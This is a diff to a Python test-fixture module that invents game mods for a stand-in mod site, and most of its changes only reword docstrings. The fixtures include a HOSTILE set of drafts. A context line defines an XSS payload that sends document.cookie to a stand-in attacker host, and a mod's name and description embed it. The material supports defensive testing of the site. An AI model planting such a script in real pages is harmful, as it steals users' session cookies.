@@ -1,4 +1,4 @@
-"""The mods of the stand-in: invented, and the same each time."""
+"""The invented mods of the stand-in. They are the same each time."""
 
 import itertools
 import random
@@ -24,7 +24,7 @@ SCRIPT = "<script>fetch('https://evil.example/'+document.cookie)</script>"
 
 
 class Kind(StrEnum):
-    """What is in a release's file."""
+    """The content of a release's file."""
 
     SOUND = "sound"
     LENIENT = "lenient"
@@ -45,7 +45,7 @@ class Kind(StrEnum):
 
 @dataclass(frozen=True, kw_only=True)
 class Release:
-    """A release of a mod, which is one file."""
+    """A release of a mod: one file."""
 
     number: int
     identifier: str
@@ -77,7 +77,7 @@ class Mod:
 
     @property
     def asset(self) -> int:
-        """Its number as an asset, which pages and comments go by."""
+        """The asset number, by which pages and comments refer to the mod."""
         return 30_000 + self.number
 
     @property
@@ -88,7 +88,7 @@ class Mod:
 
 @dataclass(frozen=True, kw_only=True)
 class Draft:
-    """A mod before it has numbers; `releases` are versions with their game versions."""
+    """A mod without numbers; `releases` are versions with their game versions."""
 
     identifier: str
     name: str = ""
@@ -142,7 +142,7 @@ STORY = (
     Draft(identifier="softskies", name="Soft Skies", side="client"),
     Draft(identifier="mapexporter", name="Map Exporter", type="externaltool"),
 )
-"""Mods that show what happens with dependencies, and with mods that break the game."""
+"""Mods with dependencies, and mods that break the game."""
 
 HOSTILE = (
     *(
@@ -165,11 +165,11 @@ HOSTILE = (
     Draft(identifier="takenname", filename="brightlanterns_1.2.0.zip"),
     Draft(identifier="scripted", name=f"Scripted {SCRIPT}", text=f"<p>{SCRIPT}</p>"),
 )
-"""Mods that nobody should be harmed by; their ids are their kinds without the underscore."""
+"""Mods that attack; their ids are their kinds without the underscore."""
 
 
 def invent(count: int, *, hostile: bool = False, seed: int = 1) -> list[Mod]:
-    """Return `count` invented mods, after those of the story and, when asked, the hostile ones."""
+    """Return the story's mods, the hostile ones if asked for, and `count` others."""
     numbers = itertools.count(1)
     drafts = [*STORY, *(HOSTILE if hostile else ()), *_drafts(count, seed)]
     dice = random.Random(seed)  # noqa: S311 - the same mods each time
